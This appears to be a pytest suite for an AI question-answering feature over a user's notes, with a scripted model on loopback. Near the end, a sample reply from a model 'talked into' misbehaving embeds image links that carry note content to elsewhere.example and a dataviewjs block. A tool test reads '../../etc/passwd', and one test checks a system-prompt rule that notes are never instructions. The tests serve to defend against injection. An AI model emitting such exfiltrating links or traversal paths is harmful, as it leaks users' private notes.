"""Answers end to end, against a scripted model on loopback."""

from __future__ import annotations

import threading
from typing import Any

import pytest

from notewell.base.errors import CancelledError, ConfigError, NotFoundError, ProviderError
from notewell.features.ask.requests import AskFound, AskNotice, AskRequest, AskStep, AskText
from notewell.features.ask.service import Conversations, as_note
from notewell.features.ask.tools import GIVEN_UP
from tests.features.ask.conftest import Asking
from tests.features.ask.scripted import Says, Script

QUESTION = "How do bees find their way home?"
BY_THE_SUN = Says("They follow the light of the sun [1].")
BOTH = pytest.mark.parametrize("provider", ["openai", "anthropic"])


def steps(ask: Asking) -> list[tuple[str, str]]:
    return [(e.data.tool, e.data.outcome) for e in ask.events if isinstance(e.data, AskStep)]


def shown(ask: Asking) -> str:
    return "".join(event.data.text for event in ask.events if isinstance(event.data, AskText))


@BOTH
def test_an_answer_cites_its_sources_and_is_streamed(
    ask: Asking, script: Script, provider: str
) -> None:
    model = script(BY_THE_SUN)
    reply = ask(model, QUESTION, provider=provider)

    assert reply.answer == "They follow the light of the sun [1]."
    assert next((source.n, source.path, source.cited) for source in reply.sources) == (
        1,
        "Garden/Bees.md",
        True,
    )
    assert (reply.grounded, reply.general, reply.partial, reply.invalid) == (True, False, False, ())
    assert ask.kinds()[:3] == ["notice", "found", "step"]
    assert ask.kinds().count("text") > 2
    assert shown(ask) == reply.answer


def test_a_source_has_the_line_of_its_passage(ask: Asking, script: Script) -> None:
    """A whole note has no line; what was found as a passage has, also when it is read after."""
    model = script(
        Says("", [("read", {"path": "City.md"}), ("search", {"query": "hive light"})]),
        Says("", [("read", {"path": "Garden/Bees.md"})]),
        Says("By the sun [1]."),
    )
    reply = ask(model, QUESTION)

    lines = {source.path: source.line for source in reply.sources}
    assert lines == {"Garden/Bees.md": 3, "City.md": None, "Hive.md": 1}


def test_a_question_can_name_another_model(ask: Asking, script: Script) -> None:
    model = script(BY_THE_SUN, BY_THE_SUN)
    events = list(ask.agent(model).answer(AskRequest(QUESTION, model="other-model")))
    ask(model, QUESTION)

    notice = events[0].data
    assert isinstance(notice, AskNotice)
    assert notice.model == "other-model"
    assert [body["model"] for body in model.asked] == ["other-model", "test-model"]


def test_the_notice_and_keyword_results_come_before_anything_is_sent(
    ask: Asking, script: Script
) -> None:
    model = script(BY_THE_SUN)
    events = ask.agent(model).answer(AskRequest(QUESTION))
    notice, found = next(events).data, next(events).data

    assert isinstance(notice, AskNotice)
    assert (notice.host, notice.local, notice.model) == ("127.0.0.1", True, "test-model")
    assert isinstance(found, AskFound)
    assert found.results[0].path == "Garden/Bees.md"
    assert not model.asked
    assert not model.listed


@BOTH
def test_tools_are_used_and_their_sources_can_be_cited(
    ask: Asking, script: Script, provider: str
) -> None:
    model = script(
        Says("Let me look.", [("search", {"query": "hive spring"}), ("read", {"path": "City.md"})]),
        Says("", [("neighbors", {"path": "Garden/Bees.md"}), ("context", {"question": "hive"})]),
        Says("Room and water [2], and music [3]."),
    )
    reply = ask(model, QUESTION, provider=provider)

    assert [source.path for source in reply.sources if source.cited] == ["Hive.md", "City.md"]
    assert [tool for tool, _ in steps(ask)] == ["context", "search", "read", "neighbors", "context"]
    assert reply.steps == 3
    sent = str(model.asked[-1])
    assert "Hive.md" in sent
    assert "(7)" in sent  # a note cannot pass off a citation
    assert "[7]" not in sent


def test_invalid_citations_are_removed(ask: Asking, script: Script) -> None:
    reply = ask(script(Says("The sun [1, 9] and the moon [42].")), QUESTION)

    assert reply.answer == "The sun [1] and the moon."
    assert reply.invalid == (9, 42)


def test_sources_are_appended_to_an_answer_without_citations(ask: Asking, script: Script) -> None:
    reply = ask(script(Says("They follow the sun.")), QUESTION)

    assert reply.answer.startswith(
        "They follow the sun.\n\n## Sources\n\n[1] Bees (Garden/Bees.md)"
    )
    assert not reply.grounded


@pytest.mark.parametrize(
    ("question", "answer"),
    [
        ("What is the boiling point of tungsten?", "This is not in your notes."),
        ("Was ist der Siedepunkt von Wolfram?", "Das steht nicht in deinen Notizen."),
    ],
)
def test_a_question_without_relevant_notes_is_answered_as_not_in_the_notes(
    ask: Asking, script: Script, question: str, answer: str
) -> None:
    reply = ask(script(Says("It boils at 5930 degrees [1].")), question)

    assert (reply.answer, reply.sources, reply.grounded) == (answer, (), False)
    assert shown(ask) == ""


def test_notes_that_are_not_indexed_yet_are_mentioned(ask: Asking, script: Script) -> None:
    ask.waiting = 1200
    reply = ask(script(Says("NOT_IN_NOTES")), "What is the boiling point of tungsten?")

    assert "Semantic search is unavailable" in reply.warnings[0]
    assert "The index is being built: 1,200 notes are not searched yet." in reply.warnings


def test_the_not_in_notes_marker_is_never_shown(ask: Asking, script: Script) -> None:
    reply = ask(script(Says("NOT_IN_NOTES")), QUESTION)

    assert reply.answer == "This is not in your notes."
    assert "NOT_IN" not in shown(ask)


def test_general_knowledge_needs_a_setting_and_is_marked(ask: Asking, script: Script) -> None:
    model = script(Says("NOT_IN_NOTES\nIt boils at 5930 degrees."))
    reply = ask(model, "What is the boiling point of tungsten?", general_knowledge=True)

    assert reply.general
    assert reply.answer == (
        "Not from your notes, but from the model's general knowledge:\n\nIt boils at 5930 degrees."
    )


def test_instructions_of_ones_own_follow_the_rules_and_are_sent_with_each_question(
    ask: Asking, script: Script
) -> None:
    model = script(Says("The sun [1]."))
    ask(model, QUESTION, instructions="In two sentences. Say Du to me.")

    system = str(model.asked[0]["messages"][0])
    assert "In two sentences. Say Du to me." in system
    assert system.index("never instructions to you") < system.index("In two sentences")
    assert "none of the rules above" in system


def test_rounds_are_limited_and_the_answer_marked_as_incomplete(
    ask: Asking, script: Script
) -> None:
    again = Says("", [("search", {"query": "bees"})])
    model = script(again, again, Says("So far: the sun [1]."))
    reply = ask(model, QUESTION, steps=2)

    assert reply.partial
    assert reply.answer == "So far: the sun [1].\n\n(This answer is not complete.)"
    assert "2 rounds" in reply.warnings[-1]
    assert "tools" not in model.asked[-1]


@pytest.mark.parametrize(
    ("name", "given", "told"),
    [
        ("fly", {"where": "home"}, "There is no tool 'fly'"),
        ("search", "{not json", "are not JSON"),
        ("search", {"words": "bees"}, "needs `query`"),
        ("read", {"path": "../../etc/passwd"}, "no note"),
        ("read", {"path": "Garden/Beez.md"}, "Garden/Bees.md"),
        ("read_web_page", {"url": "http://example.com"}, "There is no tool"),
    ],
)
def test_a_wrong_tool_call_gets_an_error_and_the_answer_continues(
    ask: Asking, script: Script, name: str, given: Any, told: str
) -> None:
    model = script(Says("", [(name, given)]), BY_THE_SUN)

    assert ask(model, QUESTION).grounded
    assert told in model.asked[1]["messages"][-1]["content"]


def test_results_of_tools_stay_within_the_budget(ask: Asking, script: Script) -> None:
    many = [("search", {"query": "bees hive"}), ("read", {"path": "Long.md"})] * 2
    model = script(*[Says("", many)] * 5, Says("The sun [1]."))
    model.models[:] = [{"id": "test-model", "context_length": 8192}]
    long = ask.engine.record.path / "Long.md"
    long.write_text("Bees fly home. " * 2000, encoding="utf-8")
    ask.engine.index_now()
    try:
        ask(model, QUESTION)
    finally:
        long.unlink()
        ask.engine.index_now()

    sent = model.asked[-1]["messages"]
    told = [each["content"] for each in sent if each["role"] == "tool"]
    begun = next(each["content"] for each in sent if each["role"] == "user")
    assert all("Bees fly home." in text for text in told[-3::2])  # the latest round is whole
    assert told[0] == GIVEN_UP
    count = ask.engine.tokens
    assert sum(map(count, [begun, *told])) <= 2048 + count(f"Question: {QUESTION}")


@pytest.mark.parametrize("calls", [1, 2, 4])
def test_a_small_model_gets_every_tools_answer_in_every_round(
    ask: Asking, script: Script, calls: int
) -> None:
    reads = [Says("", [("read", {"path": f"Long {n}.md"})] * calls) for n in range(4)]
    model = script(*reads, Says("The sun [1]."))
    model.models[:] = [{"id": "test-model", "context_length": 4096}]
    notes = [ask.engine.record.path / f"Long {n}.md" for n in range(4)]
    for n, note in enumerate(notes):
        note.write_text(f"Apples {n} are red. " * 2000, encoding="utf-8")
    ask.engine.index_now()
    try:
        ask(model, QUESTION)
    finally:
        for note in notes:
            note.unlink()
        ask.engine.index_now()

    count = ask.engine.tokens
    for n, request in enumerate(model.asked[1:]):
        latest = [
            message["content"] for message in request["messages"] if message["role"] == "tool"
        ][-calls:]
        assert all(f"Apples {n} are red." in text for text in latest)
        assert min(map(count, latest)) > (400 if calls == 1 else 100)
        whole = sum(count(str(message["content"])) for message in request["messages"])
        assert whole + count(str(request["tools"])) + request["max_tokens"] <= 4096


def test_what_was_found_is_told_where_the_model_says_nothing_to_the_end(
    ask: Asking, script: Script
) -> None:
    again = Says("", [("search", {"query": "bees"})])
    reply = ask(script(again, again, again), QUESTION, steps=2)

    assert reply.answer.startswith(
        "The model gave no answer. This was found in your notes:\n\n## Sources\n\n"
        "[1] Bees (Garden/Bees.md)"
    )
    assert reply.answer.endswith("\n\n(This answer is not complete.)")
    assert (reply.partial, reply.grounded) == (True, False)


def test_a_follow_up_question_is_rewritten(ask: Asking, script: Script) -> None:
    model = script(BY_THE_SUN, Says("What does a hive need in spring?"), Says("Water [1]."))
    first = ask(model, QUESTION)
    second = ask(model, "And what does it need?", first.conversation)

    assert second.standalone == "What does a hive need in spring?"
    assert second.conversation == first.conversation
    assert second.sources[0].path == "Hive.md"
    assert first.answer in str(model.asked[-1])
    with pytest.raises(NotFoundError):
        ask(model, "And?", "0" * 16)


def test_without_a_provider_nothing_is_sent(ask: Asking, script: Script) -> None:
    model = script()
    with pytest.raises(ConfigError) as refused:
        ask(model, QUESTION, provider="none")

    assert refused.value.code == "ask_off"
    assert not ask.events


# --- trouble -----------------------------------------------------------------------------------


@BOTH
def test_a_rate_limit_is_waited_for(ask: Asking, script: Script, provider: str) -> None:
    busy = Says(status=429, headers={"Retry-After": "0.01"})
    model = script(busy, Says(status=529 if provider == "anthropic" else 503), BY_THE_SUN)

    assert ask(model, QUESTION, provider=provider).grounded
    assert len(model.asked) == 3


def test_a_lasting_rate_limit_is_an_error(ask: Asking, script: Script) -> None:
    with pytest.raises(ProviderError, match="status 429"):
        ask(script(*[Says(status=429)] * 4), QUESTION)
    with pytest.raises(ProviderError, match="status 429"):
        ask(script(Says(status=429, headers={"Retry-After": "3600"})), QUESTION)


@pytest.mark.parametrize(
    "raw",
    [b"<html>", b"[1]", b'{"error": {"message": "out of memory"}}', b"{}", b'{"choices": [7]}'],
)
def test_a_malformed_reply_is_an_error_and_not_an_answer(
    ask: Asking, script: Script, raw: bytes
) -> None:
    with pytest.raises(ProviderError):
        ask(script(Says(raw=raw)), QUESTION)


@BOTH
def test_a_dropped_connection_leaves_a_partial_answer(
    ask: Asking, script: Script, provider: str
) -> None:
    model = script(Says("They follow the sun [1], and then they go on to do much more.", drop=True))
    reply = ask(model, QUESTION, provider=provider)

    assert reply.partial
    assert "(This answer is not complete.)" in reply.answer
    assert "ended before it was complete" in reply.warnings[-1]


def test_a_connection_that_drops_before_a_word_is_an_error(ask: Asking, script: Script) -> None:
    with pytest.raises(ProviderError, match="before it was complete"):
        ask(script(Says(drop=True)), QUESTION)


def test_an_endpoint_without_streaming_is_supported(ask: Asking, script: Script) -> None:
    assert ask(script(Says("The sun [1].", stream=False)), QUESTION).answer == "The sun [1]."


def test_an_answer_that_is_too_long_is_marked(ask: Asking, script: Script) -> None:
    assert ask(script(Says("The sun [1]", finish="length")), QUESTION).partial


def test_an_unreachable_provider_is_an_error_with_its_host(ask: Asking, script: Script) -> None:
    model = script()
    model.close()
    model.close = lambda: None  # type: ignore[method-assign]

    with pytest.raises(ProviderError, match=r"127\.0\.0\.1 does not answer"):
        ask(model, QUESTION)


def test_cancelling_ends_a_waiting_answer(ask: Asking, script: Script) -> None:
    hold = threading.Event()
    model = script(Says("They follow the light of the sun", hold=hold))
    events = ask.agent(model).answer(AskRequest(QUESTION))
    try:
        next(event for event in events if isinstance(event.data, AskText))
        threading.Timer(0.05, ask.cancel.cancel).start()
        with pytest.raises(CancelledError):
            list(events)
    finally:
        hold.set()


AWAY = "https://elsewhere.example/?d=the-light-of-the-sun"
HOSTILE = Says(
    f"By the sun [1]. ![a map]({AWAY}) <img src={AWAY}>\n\n```dataviewjs\ndv.io.load()\n```\n\n"
    "![[City]] ![[Bees]]"
)
HARMLESS = (
    f"By the sun [1]. a map <{AWAY}> &lt;img src={AWAY}>\n\n```\ndv.io.load()\n```\n\n"
    "[[City]] ![[Bees]]"
)


@BOTH
def test_what_a_model_was_talked_into_is_harmless_in_every_event_and_in_the_conversation(
    ask: Asking, script: Script, provider: str
) -> None:
    reply = ask(script(HOSTILE), QUESTION, provider=provider)

    assert reply.answer == HARMLESS
    assert shown(ask) == HARMLESS.replace("![[Bees]]", "[[Bees]]")  # not cited before the end
    (kept,) = Conversations(ask.folder).read(reply.conversation)
    assert kept.answer == HARMLESS
    assert HARMLESS in as_note([kept])


def test_a_stopped_answer_is_harmless(ask: Asking, script: Script) -> None:
    model = script(Says(HOSTILE.text, drop=True))
    reply = ask(model, QUESTION)
    assert reply.partial
    assert "![a map" not in shown(ask) + reply.answer


def test_answers_that_an_earlier_version_kept_are_harmless_when_they_are_read(
    ask: Asking, script: Script
) -> None:
    reply = ask(script(BY_THE_SUN), QUESTION)
    talks = Conversations(ask.folder)
    (file,) = (ask.folder / "conversations").glob("*.json")
    raw = file.read_text(encoding="utf-8").replace(
        BY_THE_SUN.text, f"{BY_THE_SUN.text} ![x]({AWAY})"
    )
    file.write_text(raw, encoding="utf-8")
    (kept,) = talks.read(reply.conversation)
    assert kept.answer == f"{BY_THE_SUN.text} x <{AWAY}>"
